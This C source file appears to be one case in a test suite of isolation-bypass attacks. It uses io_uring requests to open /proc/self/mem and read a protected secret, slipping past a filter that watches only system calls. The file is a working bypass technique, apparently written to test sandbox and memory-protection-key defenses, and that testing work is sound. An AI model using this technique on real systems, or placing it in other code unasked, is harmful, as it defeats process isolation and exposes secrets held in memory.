/* B5: io_uring opens and reads /proc/self/mem, past a filter that looks at system
 * calls: requests are no system calls.
 *
 * Source: [PKU Pitfalls], [io_uring_enter(2)].
 */
#include <fcntl.h>
#include "attack.h"
#include "ring.h"

static struct ring ring;

static int run(const char *name, const struct io_uring_sqe *request) {
    int result = ring_run(&ring, request);
    if (result < 0) attack_refused(name, -result);
    return result;
}

static void openat_read(void) {
    static unsigned char bytes[SECRET_BYTES];
    const char *call = NULL;
    TRY(call, ring_open(&ring, 0, &call));
    int fd = run("IORING_OP_OPENAT", &(struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD,
                 .addr = (uintptr_t)"/proc/self/mem", .open_flags = O_RDONLY});
    if (fd < 0) return;
    int count = run("IORING_OP_READ", &(struct io_uring_sqe){.opcode = IORING_OP_READ, .fd = fd,
                    .addr = (uintptr_t)bytes, .len = sizeof bytes, .off = (uintptr_t)target.secret});
    if (count > 0) attack_hand_in(bytes, (size_t)count);
}

const struct attack attacks[] = {
    {.variant = "openat", .attack = openat_read},
    {0},
};
